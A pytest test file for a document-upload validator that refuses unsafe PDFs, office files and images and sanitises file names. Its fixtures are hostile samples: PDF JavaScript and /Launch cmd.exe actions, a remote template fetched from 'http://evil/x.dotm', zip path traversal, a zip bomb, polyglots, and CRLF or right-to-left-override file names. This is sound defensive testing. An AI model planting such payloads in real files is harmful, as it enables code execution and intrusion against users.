"""What is taken in as a file, and what is not, by its content. Needs no database."""

import hashlib
import io
import time
import tracemalloc

import pytest
from PIL import Image

from documents.intake import FORMATS, Unfit, archives, names, pictures, take_in
from tests.documents import samples

GOOD = {
    "протокол.pdf": samples.pdf(),
    "фото.JPG": samples.picture("JPEG"),
    "scan.jpeg": samples.picture("JPEG"),
    "scan.png": samples.picture("PNG"),
    "пікір.docx": samples.docx(),
    "list.xlsx": samples.xlsx(),
    "letter.odt": samples.odt(),
    # Object streams and links that a person clicks are nothing unusual.
    "packed.pdf": samples.pdf(samples.object_stream(b"9 0 << /Type /Font >>")),
    "links.docx": samples.docx(
        word___rels__document_DOT_xml_DOT_rels=b'<Relationship Type="http://x/hyperlink" Target="http://y" TargetMode="External"/>'
    ),
}


@pytest.mark.parametrize("name", list(GOOD))
def test_files_of_the_allowed_kinds_are_taken(name: str) -> None:
    taken = take_in(name, GOOD[name])
    assert taken.format.key in FORMATS
    assert taken.name.rpartition(".")[2] == taken.format.endings[0]
    assert taken.digest == hashlib.sha256(GOOD[name]).hexdigest()
    if taken.format.key not in ("jpeg", "png"):
        assert taken.data == GOOD[name], "an office document or PDF stays as it is, byte for byte"


WRONG = {
    "script in a picture": ("photo.png", samples.SVG),
    "web page as picture": ("photo.jpg", samples.HTML),
    "web page as PDF": ("paper.pdf", samples.HTML),
    "program as PDF": ("paper.pdf", b"MZ\x90\x00" + b"\0" * 100),
    "PDF as picture": ("photo.png", samples.pdf()),
    "picture as PDF": ("paper.pdf", samples.picture()),
    "archive as document": ("paper.docx", samples.archive({"a.txt": b"x"})),
    "sheet as document": ("paper.docx", samples.xlsx()),
    "document as sheet": ("paper.xlsx", samples.docx()),
    "document as odt": ("paper.odt", samples.docx()),
    "svg": ("drawing.svg", samples.SVG),
    "html": ("page.html", samples.HTML),
    "program": ("paper.pdf.exe", samples.pdf()),
    "macro document": ("paper.docm", samples.docx()),
    "archive": ("all.zip", samples.archive({"a.txt": b"x"})),
    "no ending": ("paper", samples.pdf()),
    "ending that is not seen": ("paper.pd\u200bf.exe", samples.pdf()),
    "empty": ("paper.pdf", b""),
    "only a head": ("photo.png", b"\x89PNG\r\n\x1a\n"),
    "half a picture": ("photo.jpg", samples.picture()[:200]),
    "half a PDF": ("paper.pdf", samples.pdf()[:60]),
}  # fmt: skip


@pytest.mark.parametrize("case", list(WRONG))
def test_what_is_not_what_it_says_is_refused(case: str) -> None:
    with pytest.raises(Unfit):
        take_in(*WRONG[case])


PDFS = {
    "script": samples.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "script in disguise": samples.pdf(b"<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>"),
    "script in an object stream": samples.pdf(samples.object_stream(b"9 0 << /S /JavaScript /JS (x) >>")),
    "in an object stream in disguise": samples.pdf(
        samples.object_stream(b"9 0 << /S /J#61vaScript /JS (x) >>", type_name=b"/Obj#53tm")
    ),
    "in an object stream without a type": samples.pdf(samples.object_stream(b"9 0 << /S /Launch /F (x) >>", b"/X")),
    "in a stream packed twice": samples.pdf(samples.object_stream(b"x", filters=b"[/ASCIIHexDecode /FlateDecode]")),
    "with the filter elsewhere": samples.pdf(samples.object_stream(b"x", filters=b"8 0 R")),
    "starts a program": samples.pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "holds a file": samples.pdf(b"<< /Type /EmbeddedFile >>"),
    "names files": samples.pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"),
    "sends a form": samples.pdf(b"<< /S /SubmitForm /F (http://x) >>"),
    "XFA": samples.pdf(b"<< /AcroForm << /XFA 5 0 R >> >>"),
    "locked": samples.pdf(b"<< /Encrypt 5 0 R >>"),
    "archive behind it": samples.pdf(tail=samples.docx()),
    "page before it": samples.pdf(head=b"<html><script>1</script>%PDF-1.7\n"),
    "page inside its head": samples.pdf(head=b"%PDF-1.7\n%<html><script>alert(1)</script>\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(PDFS))
def test_a_pdf_that_acts_or_hides_is_refused(case: str) -> None:
    with pytest.raises(Unfit):
        take_in("paper.pdf", PDFS[case])


def test_control_the_same_words_as_text_are_no_action() -> None:
    """A page that speaks of /JavaScripts, or whose packed picture holds such bytes, is no script."""
    take_in("paper.pdf", samples.pdf(b"<< /Title (on /JavaScripting and /Launcher) >>"))


RELS = "word___rels__settings_DOT_xml_DOT_rels"
_REMOTE = b'<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
_MACRO = b'<Types a="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
ARCHIVES = {
    "macro": ("a.docx", samples.docx(word__vbaProject_DOT_bin=b"x")),
    "macro in capitals": ("a.xlsx", samples.xlsx(xl__VBAPROJECT_DOT_BIN=b"x")),
    "macro type": ("a.docx", samples.archive({"[Content_Types].xml": _MACRO, "word/document.xml": b"<w/>"})),
    "embedded file": ("a.docx", samples.docx(word__embeddings__oleObject1_DOT_bin=b"x")),
    "remote template": ("a.docx", samples.docx(**{RELS: _REMOTE})),
    "remote template in disguise": ("a.docx", samples.docx(**{RELS: _REMOTE.replace(b"E", b"&#69;")})),
    "in another encoding": ("a.docx", samples.docx(**{RELS: _REMOTE.decode().encode("utf-16")})),
    "script of an odt": ("a.odt", samples.odt(Basic__Standard__Module1_DOT_xml=b"x")),
    "event of an odt": ("a.odt", samples.archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:scripts/>"})),
    "locked odt": ("a.odt", samples.odt(**{"META-INF__manifest_DOT_xml": b"<manifest:encryption-data/>"})),
    "locked": ("a.docx", samples.locked_zip(samples.docx())),
    "way out": ("a.docx", samples.docx(word__DOTDOT=b"x").replace(b"word/DOTDOT", b"word/../etc")),
    "absolute": ("a.docx", samples.archive({"[Content_Types].xml": samples.TYPES, "word/document.xml": b"", "/etc/passwd": b"x"})),
    "comment": ("a.docx", samples.docx()[:-2] + b"\x05\x00hello"),
    "tail": ("a.docx", samples.docx() + b"<script>"),
    "head": ("a.docx", b"PK\x03\x04" + samples.docx()),
    "program inside": ("a.docx", samples.docx(word__media__run_DOT_exe=b"MZ")),
    "page inside": ("a.odt", samples.odt(Pictures__x_DOT_svg=samples.SVG)),
}  # fmt: skip


@pytest.mark.parametrize("case", list(ARCHIVES))
def test_a_document_that_acts_fetches_or_hides_is_refused(case: str) -> None:
    with pytest.raises(Unfit):
        take_in(*ARCHIVES[case])


def _bomb() -> bytes:
    return samples.docx(word__media__image1_DOT_png=b"\0" * 60_000_000)


def test_an_archive_that_unpacks_to_much_is_refused_before_it_is_unpacked() -> None:
    bomb = _bomb()
    assert len(bomb) < 100_000
    tracemalloc.start()
    begun = time.monotonic()
    with pytest.raises(Unfit):
        take_in("a.docx", bomb)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.monotonic() - begun < 1
    assert most < 2_000_000


def test_control_without_the_limit_the_archive_would_be_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "MOST_TIMES_LARGER", 10**6)
    assert take_in("a.docx", _bomb()).format.key == "docx"


def test_an_archive_that_lies_about_its_size_is_refused() -> None:
    good = samples.docx(word__media__image1_DOT_png=b"\0" * 500_000)
    lie = good.replace((500_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lie != good
    with pytest.raises(Unfit):
        take_in("a.docx", lie)


def test_too_many_entries_are_refused() -> None:
    many = {f"word/part{n}.xml": b"" for n in range(archives.MOST_ENTRIES)}
    with pytest.raises(Unfit):
        take_in(
            "a.docx",
            samples.archive({"[Content_Types].xml": samples.TYPES, "word/document.xml": b"", **many}),
        )


@pytest.mark.parametrize("size", [(30_000, 30_000), (65_000, 65_000)])
def test_a_picture_with_too_many_pixels_is_refused_before_it_is_drawn(size: tuple[int, int]) -> None:
    with pytest.raises(Unfit, match="pixels"):
        take_in("a.png", samples.png_head(*size))


def test_control_of_the_pixels(monkeypatch: pytest.MonkeyPatch) -> None:
    take_in("a.png", samples.picture("PNG", (200, 200)))
    monkeypatch.setattr(pictures, "MOST_PIXELS", 200 * 200 - 1)
    with pytest.raises(Unfit, match="pixels"):
        take_in("a.png", samples.picture("PNG", (200, 200)))


@pytest.mark.parametrize(("name", "kind"), [("a.jpg", "JPEG"), ("a.png", "PNG")])
def test_a_picture_says_no_place_time_or_device_any_more(name: str, kind: str) -> None:
    sent = samples.picture(kind)
    words = (b"PhoneOfTheChild", b"ProfileOf", b"iCCP", samples.PLACE.encode(), b"Exif", b"eXIf", b"tEXt")
    assert [w for w in words if w in sent], "control: the picture that was sent does say it"
    kept = take_in(name, sent).data
    assert [w for w in words if w in kept] == []
    found = Image.open(io.BytesIO(kept))
    assert not dict(found.getexif())
    assert set(found.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}


def test_a_picture_that_was_turned_by_its_tag_stands_upright() -> None:
    kept = Image.open(io.BytesIO(take_in("a.jpg", samples.picture("JPEG", (40, 20))).data))
    assert kept.size == (20, 40)
    assert kept.getpixel((10, 2))[2] > 200, "blue above, as the camera saw it"  # type: ignore[index]


def test_what_hangs_on_to_a_picture_is_gone() -> None:
    for name, kind in (("a.jpg", "JPEG"), ("a.png", "PNG")):
        kept = take_in(name, samples.picture(kind) + samples.HTML + samples.docx()).data
        assert b"<script" not in kept
        assert b"PK\x03\x04" not in kept


def test_a_moving_picture_is_refused() -> None:
    out = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    with pytest.raises(Unfit, match="moving"):
        take_in("a.png", out.getvalue())


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16", "CMYK"])
def test_pictures_of_every_depth_are_taken(mode: str) -> None:
    out = io.BytesIO()
    kind = "JPEG" if mode == "CMYK" else "PNG"
    Image.new(mode, (8, 8)).save(out, kind)
    take_in("a.jpg" if kind == "JPEG" else "a.png", out.getvalue())


NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\windows\\x.pdf": "x.pdf",
    "..%2f..%2fx.pdf": "_2f.._2fx.pdf",
    "a\x00b.pdf": "ab.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie_ x=1.pdf",
    "\u202efdp.exe\u202c.pdf": "fdp.exe.pdf",
    "zero\u200bwidth\ufeff.pdf": "zerowidth.pdf",
    'quote"; filename="x.html.pdf': "quote_; filename=_x.html.pdf",
    ".pdf": "file.pdf",
    "...pdf": "file.pdf",
    " . .pdf": "file.pdf",
    "con.pdf": "_con.pdf",
    "LPT1.x.pdf": "_LPT1.x.pdf",
    "a" * 300 + ".pdf": "a" * 100 + ".pdf",
    "ә" * 300 + ".pdf": "ә" * 100 + ".pdf",
    "Қазақ хаты.pdf": "Қазақ хаты.pdf",
    "e\u0301.pdf": "é.pdf",
}


@pytest.mark.parametrize("name", list(NAMES))
def test_names_are_made_harmless(name: str) -> None:
    stem, ending = names.tidy(name)
    assert f"{stem}.{ending}" == NAMES[name]
    assert len(f"{stem}.{ending}".encode()) <= 255
